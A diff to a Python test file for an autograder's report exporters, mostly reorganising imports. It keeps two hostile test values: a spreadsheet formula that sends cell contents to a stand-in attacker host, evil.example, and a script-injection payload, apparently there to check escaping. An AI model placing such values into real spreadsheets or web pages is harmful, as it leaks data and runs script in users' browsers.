@@ -13,9 +13,10 @@ import xml.etree.ElementTree as ET
 import pytest
 
 from grader import reports
-from grader.reports import classreport, gradebook, gradescope, html, junit, markdown
-from grader.results import PARTS, SubmissionResult
-from grader.results import TestResult as Case  # not Test*: pytest would try to collect it
+from grader.classroom import report as classreport
+from grader.reports import gradebook, gradescope, html, junit, markdown
+from grader.grading.results import PARTS, SubmissionResult
+from grader.grading.results import TestResult as Case  # not Test*: pytest would try to collect it
 
 EVIL_ID = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 SCRIPT = "<script>alert(1)</script>"
